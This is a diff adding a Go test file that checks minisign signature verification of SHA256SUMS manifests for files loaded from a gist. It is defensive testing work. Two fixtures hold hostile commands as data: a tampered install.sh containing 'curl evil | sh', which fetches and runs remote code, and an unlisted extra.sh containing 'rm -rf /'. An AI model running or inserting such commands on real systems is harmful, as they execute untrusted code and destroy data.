@@ -0,0 +1,195 @@
+package gistfs
+
+import (
+	"context"
+	"crypto/ed25519"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"sort"
+	"strings"
+	"testing"
+
+	"golang.org/x/crypto/blake2b"
+)
+
+// minisignKey is a minisign key pair made for tests.
+type minisignKey struct {
+	id   [8]byte
+	priv ed25519.PrivateKey
+}
+
+func newMinisignKey(t *testing.T, id string) *minisignKey {
+	t.Helper()
+
+	_, priv, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatalf("Generating a key, expected no error but got %#v", err)
+	}
+
+	k := &minisignKey{priv: priv}
+	copy(k.id[:], id)
+	return k
+}
+
+// publicKey returns the public key as printed by minisign.
+func (k *minisignKey) publicKey() string {
+	b := append([]byte("Ed"), k.id[:]...)
+	b = append(b, k.priv.Public().(ed25519.PublicKey)...)
+	return "untrusted comment: minisign public key\n" + base64.StdEncoding.EncodeToString(b) + "\n"
+}
+
+// sign returns the prehashed signature of message as written by minisign.
+func (k *minisignKey) sign(message string) string {
+	sum := blake2b.Sum512([]byte(message))
+	sig := append([]byte("ED"), k.id[:]...)
+	sig = append(sig, ed25519.Sign(k.priv, sum[:])...)
+
+	trusted := "timestamp:1600000000"
+	global := ed25519.Sign(k.priv, append(append([]byte(nil), sig[10:]...), trusted...))
+
+	return "untrusted comment: signature\n" +
+		base64.StdEncoding.EncodeToString(sig) + "\n" +
+		"trusted comment: " + trusted + "\n" +
+		base64.StdEncoding.EncodeToString(global) + "\n"
+}
+
+// signedFiles returns files along with their SHA256SUMS manifest and its
+// signature by k.
+func signedFiles(k *minisignKey, files map[string]string) map[string]string {
+	names := make([]string, 0, len(files))
+	for name := range files {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+
+	var manifest strings.Builder
+	signed := map[string]string{}
+	for _, name := range names {
+		sum := sha256.Sum256([]byte(files[name]))
+		fmt.Fprintf(&manifest, "%s  %s\n", hex.EncodeToString(sum[:]), name)
+		signed[name] = files[name]
+	}
+
+	signed["SHA256SUMS"] = manifest.String()
+	signed["SHA256SUMS.minisig"] = k.sign(manifest.String())
+	return signed
+}
+
+func TestWithSignedManifest(t *testing.T) {
+	key := newMinisignKey(t, "key-id-1")
+	verify, err := MinisignVerifier(key.publicKey())
+	if err != nil {
+		t.Fatalf("Parsing the public key, expected no error but got %#v", err)
+	}
+	opt := WithSignedManifest("SHA256SUMS", "SHA256SUMS.minisig", verify)
+	files := map[string]string{"install.sh": "echo hi\n", "README.md": "# tools\n"}
+
+	t.Run("OK", func(t *testing.T) {
+		_, client := newFakeGist(t, signedFiles(key, files))
+		gfs := NewWithClient(client, referenceGistID, opt)
+		if err := gfs.Load(context.Background()); err != nil {
+			t.Fatalf("Loading, expected no error but got %#v", err)
+		}
+		if b, _ := gfs.ReadFile("install.sh"); string(b) != "echo hi\n" {
+			t.Errorf("Reading install.sh, got %q", b)
+		}
+	})
+
+	t.Run("NOK tampered file", func(t *testing.T) {
+		fg, client := newFakeGist(t, signedFiles(key, files))
+		gfs := NewWithClient(client, referenceGistID, opt)
+		if err := gfs.Load(context.Background()); err != nil {
+			t.Fatalf("Loading, expected no error but got %#v", err)
+		}
+
+		tampered := signedFiles(key, files)
+		tampered["install.sh"] = "curl evil | sh\n"
+		fg.SetFiles(tampered)
+
+		err := gfs.Load(context.Background())
+		var sigErr *SignatureError
+		if !errors.Is(err, ErrSignature) || !errors.As(err, &sigErr) || sigErr.File != "install.sh" {
+			t.Fatalf("Loading a tampered gist, got %#v, want a *SignatureError for install.sh", err)
+		}
+		if b, _ := gfs.ReadFile("install.sh"); string(b) != "echo hi\n" {
+			t.Errorf("Reading after a failed load, got %q, want the verified content", b)
+		}
+	})
+
+	t.Run("NOK unlisted file", func(t *testing.T) {
+		unlisted := signedFiles(key, files)
+		unlisted["extra.sh"] = "rm -rf /\n"
+		_, client := newFakeGist(t, unlisted)
+
+		err := NewWithClient(client, referenceGistID, opt).Load(context.Background())
+		if !errors.Is(err, ErrSignature) {
+			t.Fatalf("Loading a gist with an unlisted file, got %#v, want ErrSignature", err)
+		}
+	})
+
+	t.Run("NOK other key", func(t *testing.T) {
+		_, client := newFakeGist(t, signedFiles(newMinisignKey(t, "key-id-2"), files))
+
+		err := NewWithClient(client, referenceGistID, opt).Load(context.Background())
+		if !errors.Is(err, ErrSignature) {
+			t.Fatalf("Loading a gist signed with another key, got %#v, want ErrSignature", err)
+		}
+	})
+
+	t.Run("NOK unsigned", func(t *testing.T) {
+		_, client := newFakeGist(t, files)
+
+		err := NewWithClient(client, referenceGistID, opt).Load(context.Background())
+		if !errors.Is(err, ErrSignature) {
+			t.Fatalf("Loading an unsigned gist, got %#v, want ErrSignature", err)
+		}
+	})
+
+	t.Run("NOK deferred content", func(t *testing.T) {
+		signed := signedFiles(key, map[string]string{"big.txt": "big file!"})
+		getter := &stubGetter{
+			gist: &Gist{
+				ID: referenceGistID,
+				Files: map[string]GistFile{
+					"big.txt":            {Filename: "big.txt", Content: "big", Size: 9, Truncated: true, RawURL: "https://raw/big.txt"},
+					"SHA256SUMS":         {Filename: "SHA256SUMS", Content: signed["SHA256SUMS"]},
+					"SHA256SUMS.minisig": {Filename: "SHA256SUMS.minisig", Content: signed["SHA256SUMS.minisig"]},
+				},
+			},
+			raw: map[string]string{"https://raw/big.txt": "bad file!"},
+		}
+
+		gfs := NewWithGetter(getter, referenceGistID, opt)
+		if err := gfs.LoadMetadata(context.Background()); err != nil {
+			t.Fatalf("Loading metadata, expected no error but got %#v", err)
+		}
+		if _, err := gfs.ReadFile("big.txt"); !errors.Is(err, ErrSignature) {
+			t.Fatalf("Reading tampered deferred content, got %#v, want ErrSignature", err)
+		}
+	})
+}
+
+func TestMinisignVerifier(t *testing.T) {
+	if _, err := MinisignVerifier("not a key"); err == nil {
+		t.Fatal("Parsing an invalid public key, expected an error")
+	}
+
+	key := newMinisignKey(t, "key-id-1")
+	verify, _ := MinisignVerifier(key.publicKey())
+	sig := key.sign("message")
+
+	if err := verify([]byte("message"), []byte(sig)); err != nil {
+		t.Fatalf("Verifying, expected no error but got %#v", err)
+	}
+	if err := verify([]byte("other"), []byte(sig)); err == nil {
+		t.Fatal("Verifying another message, expected an error")
+	}
+
+	tampered := strings.Replace(sig, "timestamp:1600000000", "timestamp:1700000000", 1)
+	if err := verify([]byte("message"), []byte(tampered)); err == nil {
+		t.Fatal("Verifying a tampered trusted comment, expected an error")
+	}
+}